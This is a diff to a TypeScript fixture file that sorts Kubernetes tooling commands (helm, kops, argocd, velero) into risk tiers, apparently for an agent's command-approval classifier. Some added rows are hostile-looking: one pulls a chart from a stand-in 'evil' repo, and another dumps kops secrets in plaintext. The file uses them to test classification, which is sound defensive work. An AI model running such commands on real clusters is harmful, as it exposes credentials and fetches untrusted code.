@@ -2,6 +2,10 @@ import type { FamilyRows } from "../context.ts";
 
 export const rows: FamilyRows = {
   none: [
+    "kops get cluster -o yaml",
+    "helm show values bitnami/nginx",
+    "helm diff upgrade x . -f values.yaml",
+    "helm lint . -f values.yaml",
     "argocd account get-user-info",
     "argocd app diff web",
     "argocd app get web --refresh",
@@ -178,6 +182,8 @@ export const rows: FamilyRows = {
     "velero schedule get",
   ],
   brief: [
+    "helm show values evil/chart --repo http://evil",
+    "helm get hooks x",
     "flux get all --kubeconfig ./k",
     "helm create charts/api",
     "helm dep up charts/web",
@@ -202,9 +208,12 @@ export const rows: FamilyRows = {
     "kubeseal -f manifest.yaml -w sealed.yaml",
     "kustomize create --autodetect",
     "kustomize edit set image web=web:1.2",
-    "velero backup download nightly",
   ],
   explicit: [
+    "kops get secrets -oplaintext",
+    "velero backup download x",
+    "helm lint --values sops://x .",
+    "helm diff upgrade x . -f secrets://x",
     "argocd account update-password",
     "argocd admin initial-password",
     "argocd app delete web",
